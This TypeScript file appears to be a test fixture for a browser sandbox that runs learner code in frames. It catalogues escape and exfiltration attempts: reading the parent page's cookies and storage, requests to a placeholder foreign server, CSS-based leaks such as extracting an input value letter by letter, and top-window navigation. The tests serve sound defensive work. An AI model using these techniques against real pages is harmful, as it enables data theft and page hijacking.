/**
 * What learner code may try in order to get out: JavaScript expressions that return what they got hold of. Nothing, an
 * empty text and an error are all fine. `APP` and `STRANGER` stand for addresses of the app and of a foreign server
 * that name the attempt, so that a request identifies it.
 *
 * `policy` attempts succeed when the documents' policies are gone; `border` ones when the documents come from the app's
 * own origin, without sandbox, policies and isolation. Those of the `browser` are denied to every frame by Chromium.
 */
export type Attempt = { code: string; falls: 'policy' | 'border' | 'browser' }

const reading: Readonly<Record<string, string>> = {
  'reads the app’s document': 'parent.document.body.textContent',
  'reads a global of the app': 'parent.host',
  'reads the app’s address': 'parent.location.href',
  'reads the element around its frame': 'frameElement',
  'reads the document of the window on top': 'top.document.title',
  'calls a function of the app': 'parent.host.runner()',
  'writes into the app’s document': 'parent.document.body.append("x") ?? parent.document.body.textContent',
  'runs a script in the app': 'parent.eval("1 + 1")',
  'reads the app’s cookies': 'document.cookie',
  'reads the app’s cookies the new way': '(await cookieStore.getAll()).map(({ name }) => name).join()',
  'reads a cookie that it has set':
    '(document.cookie = "mine=1; path=/", document.cookie.match(/mine/)?.[0])',
  'reads the app’s storage': 'child().localStorage',
  'reads the app’s session storage': 'child().sessionStorage',
  'reads storage through the app': 'parent.localStorage',
  'opens a database': 'await promised(indexedDB.open("a"))',
  'lists the databases': '(await indexedDB.databases()) && "listed"',
  'opens a cache': 'await caches.open("a")',
  'lists the caches': '(await caches.keys()) && "listed"',
  'opens the file system': 'await navigator.storage.getDirectory()',
  'takes a lock of the app': 'await navigator.locks.request("a", () => "held")',
}

const network: Readonly<Record<string, string>> = {
  'fetches from the app': 'await (await fetch("APP/api", { credentials: "include" })).status',
  'fetches from the app without asking for an answer':
    'await fetch("APP/api", { mode: "no-cors", credentials: "include" })',
  'fetches with a long life': 'await fetch("APP/api", { mode: "no-cors", keepalive: true })',
  'writes to the app': 'await fetch("APP/api", { mode: "no-cors", method: "POST", body: "x" })',
  'asks the app the old way':
    'await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.withCredentials = true; r.onload = () => done(r.status); r.onerror = fail; r.open("GET", "APP/api"); r.send() })',
  'asks the app and waits':
    '(() => { const r = new XMLHttpRequest(); r.open("GET", "APP/api", false); r.send(); return r.status })()',
  'sends a beacon to the app': '(navigator.sendBeacon("APP/api", "x"), await pause(), "")',
  'opens a socket to the app':
    'await new Promise((done, fail) => { const s = new WebSocket("APP/api".replace("http", "ws")); s.onopen = () => done("open"); s.onerror = fail })',
  'listens to the app':
    'await new Promise((done, fail) => { const s = new EventSource("APP/api"); s.onopen = () => done("open"); s.onerror = fail })',
  'fetches from a worker of its own':
    "await inWorker(\"fetch('APP/api', { mode: 'no-cors', credentials: 'include' }).then((r) => postMessage(r.type), () => postMessage(''))\")",
  'takes a script of the app into a worker':
    "await inWorker(\"try { importScripts('APP/host.js') } catch {}; postMessage('')\")",
  'imports a script of the app': 'await import("APP/host.js")',
  'loads a script of the app': 'await added("script", { src: "APP/host.js" })',
  'loads a module of the app': 'await added("script", { src: "APP/host.js", type: "module" })',
  'loads a style sheet of the app': 'await added("link", { rel: "stylesheet", href: "APP/x.css" })',
  'loads a picture of the app': 'await added("img", { src: "APP/x.png" })',
  'loads a picture of a set': 'await added("img", { srcset: "APP/x.png 1x" })',
  'loads a film of the app': 'await added("video", { src: "APP/x.mp4", preload: "auto" })',
  'loads a sound of the app': 'await added("audio", { src: "APP/x.mp3", preload: "auto" })',
  'loads an object of the app': 'await added("object", { data: "APP/x.svg" })',
  'embeds the app': 'await added("embed", { src: "APP/x.svg" })',
  'loads a button’s picture': 'await added("input", { type: "image", src: "APP/x.png" })',
  'loads ahead':
    'await added("link", { rel: "preload", as: "fetch", href: "APP/x", crossOrigin: "anonymous" })',
  'loads a module ahead': 'await added("link", { rel: "modulepreload", href: "APP/x.js" })',
  'leaks through a background': '(style("body { background: url(APP/x.png) }"), await pause(), "")',
  'leaks through an import of a sheet': '(style("@import \'APP/x.css\'"), await pause(), "")',
  'leaks through a font':
    '(style("@font-face { font-family: leak; src: url(APP/x.woff2) } body { font-family: leak }"), document.body.append("leak"), await pause(), "")',
  'leaks an input letter by letter':
    '(document.body.insertAdjacentHTML("beforeend", "<input value=secret>"), style("input[value^=s] { background: url(APP/s.png) }"), await pause(), "")',
  'leaks through a cursor':
    '(style("html { cursor: url(APP/x.cur), auto; list-style-image: url(APP/x.png) } body { display: list-item }"), await pause(), "")',
  'leaks through generated content': '(style("body::before { content: url(APP/x.png) }"), await pause(), "")',
  'leaks through a shadow tree':
    '(() => { const d = document.createElement("div"); d.attachShadow({ mode: "open" }).innerHTML = "<style>:host { display: block; block-size: 9px; background: url(APP/x.png) }</style>"; document.body.append(d) })() ?? (await pause(), "")',
  'leaks through a vector picture':
    '(document.body.insertAdjacentHTML("beforeend", "<svg><image href=APP/x.png width=9 height=9></image></svg>"), await pause(), "")',
  'leaks through a filter of a vector picture':
    '(document.body.insertAdjacentHTML("beforeend", "<svg><filter id=f><feImage href=APP/x.png></feImage></filter><rect filter=url(#f) width=9 height=9></rect></svg>"), await pause(), "")',
  'loads a picture of a choice':
    '(document.body.insertAdjacentHTML("beforeend", "<picture><source srcset=APP/x.png><img></picture>"), await pause(), "")',
  'loads the poster of a film': '(await added("video", { poster: "APP/x.png" }), "")',
  'loads a picture once more, from a set in a sheet':
    '(style("body { background: image-set(url(APP/x.png) 1x) }"), await pause(), "")',
  'leaks through a mask': '(style("body { mask-image: url(APP/x.svg) }"), await pause(), "")',
  'leaks through a border':
    '(style("body { border: 9px solid; border-image: url(APP/x.png) 9 }"), await pause(), "")',
  'leaks through a shape':
    '(style("body::before { content: \'\'; float: left; shape-outside: url(APP/x.svg) }"), await pause(), "")',
  'fetches ahead of a visit': 'await added("link", { rel: "prefetch", href: "APP/x" })',
  'loads a picture ahead': 'await added("link", { rel: "preload", as: "image", href: "APP/x.png" })',
  'loads a picture in a frame of its own':
    '(document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<img src=APP/x.png>" })), await pause(), "")',
}

const granted: Readonly<Record<string, string>> = {
  'connects ahead': '(await added("link", { rel: "preconnect", href: "APP/x" }), "")',
  'looks up a name ahead': '(await added("link", { rel: "dns-prefetch", href: "APP/x" }), "")',
  'renders ahead':
    '((s) => { s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["APP/x"], eagerness: "immediate" }], prerender: [{ urls: ["APP/y"], eagerness: "immediate" }] }); document.head.append(s) })(document.createElement("script")) ?? (await pause(), "")',
  'loads an icon':
    '(document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: "APP/x.ico" })), await pause(), "")',
  'loads a manifest':
    '(document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: "APP/x.json" })), await pause(), "")',
  'has a broken rule reported':
    '((m) => { m.httpEquiv = "Content-Security-Policy"; m.content = "object-src blob:; report-uri APP/x"; document.head.append(m) })(document.createElement("meta")) ?? (await pause(), "")',
  'opens a transport': 'await new WebTransport("APP/x".replace("http:", "https:")).ready',
  'fetches later': '(fetchLater("APP/x", { activateAfter: 0 }), await pause(), "")',
}

const moving: Readonly<Record<string, string>> = {
  'shows the app in a frame': '(await added("iframe", { src: "APP/frame" }), "")',
  'opens a window': 'window.open("APP/popup")',
  'opens a window without a way back': '(window.open("APP/popup", "_blank", "noopener"), await pause(), "")',
  'opens the app in place of itself': '(window.open("APP/top", "_top"), await pause(), "")',
  'follows a link to a new window': '(link({ href: "APP/blank", target: "_blank" }), await pause(), "")',
  'follows a link over the app': '(link({ href: "APP/top", target: "_top" }), await pause(), "")',
  'follows a link over its parent': '(link({ href: "APP/parent", target: "_parent" }), await pause(), "")',
  'moves the app elsewhere': '(top.location = "APP/moved", await pause(), "")',
  'moves the app elsewhere without a trace': '(top.location.replace("APP/moved"), await pause(), "")',
  'moves its parent elsewhere': '(parent.location.assign("APP/moved"), await pause(), "")',
  'sends a form over the app': '(form({ action: "APP/form", target: "_top" }), await pause(), "")',
  'sends a form to a new window': '(form({ action: "APP/form", target: "_blank" }), await pause(), "")',
  'registers a service worker': 'await navigator.serviceWorker.register("/host.js")',
  'lists the service workers': '(await navigator.serviceWorker.getRegistrations()) && "listed"',
  'starts a worker of the app':
    'await new Promise((done, fail) => { const w = new Worker("/host.js"); w.onerror = (e) => (e.message ? done("ran") : fail()); setTimeout(() => done("runs"), 300) })',
  'starts a shared worker':
    'await new Promise((done, fail) => { const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(\'up\')"]))); w.port.onmessage = (e) => done(e.data); w.onerror = fail; w.port.start() })',
  'asks where the camper is':
    'await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done("here"), fail))',
  'reads the clipboard': '(focus(), (await navigator.clipboard.readText()) + "read")',
  'writes the clipboard': '(focus(), (await navigator.clipboard.writeText("x")) ?? "written")',
}

const fallsWith = (falls: Attempt['falls'], codes: Readonly<Record<string, string>>) =>
  Object.entries(codes).map(([name, code]) => [name, { code, falls }] as const)

const toStranger = (codes: Readonly<Record<string, string>>) =>
  Object.fromEntries(
    Object.entries(codes).map(([name, code]) => [
      `${name}, of a stranger`,
      code.replaceAll('APP', 'STRANGER'),
    ]),
  )

export const escapeAttempts: ReadonlyMap<string, Attempt> = new Map([
  ...fallsWith('border', reading),
  ...fallsWith('policy', network),
  ...fallsWith('policy', toStranger(network)),
  ...fallsWith('browser', granted),
  ...fallsWith('browser', toStranger(granted)),
  ...fallsWith('border', moving),
])

/** Helpers for the attempts above. */
const tools = `
const promised = (request) => new Promise((done, fail) => { request.onsuccess = () => done("open"); request.onerror = fail })
const pause = () => new Promise((done) => setTimeout(done, 60))
const added = (tag, properties) => new Promise((done, fail) => { const e = Object.assign(document.createElement(tag), properties); e.onload = e.onloadeddata = () => done("loaded"); e.onerror = fail; document.body.append(e); setTimeout(fail, 300) })
const style = (text) => { const e = document.createElement("style"); e.textContent = text; document.head.append(e) }
const link = (properties) => Object.assign(document.createElement("a"), properties).click()
const form = (properties) => { const e = Object.assign(document.createElement("form"), properties); document.body.append(e); child().HTMLFormElement.prototype.submit.call(e) }
const child = () => document.body.appendChild(document.createElement("iframe")).contentWindow
const inWorker = (text) => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = (e) => done(e.data); w.onerror = fail })
`

/** The origins that attempts try to reach. */
export type Targets = { app: string; stranger: string }

/** A script that makes these attempts all at once; returns a promise. */
export function attemptsScript(names: readonly string[], targets: Targets): string {
  return `(() => {${tools}; return Promise.all([${names.map((name) => attemptOf(name, targets)).join(',\n')}]) })()`
}

/** A script that makes one attempt, then prints `<name> nothing` or `<name> got …`; returns a promise. */
export function attemptScript(name: string, targets: Targets): string {
  return `(() => {${tools}; return ${attemptOf(name, targets)} })()`
}

function attemptOf(name: string, { app, stranger }: Targets): string {
  const { code } = escapeAttempts.get(name) ?? { code: '' }
  const path = `/${encodeURIComponent(name)}`
  const expression = code.replaceAll('APP', app + path).replaceAll('STRANGER', stranger + path)
  return `(async () => {
    let got
    try { got = await (async () => ${expression})() } catch { got = undefined }
    console.log(${JSON.stringify(name)}, got === undefined || got === null || got === '' ? 'nothing' : 'got ' + String(got))
  })()`
}
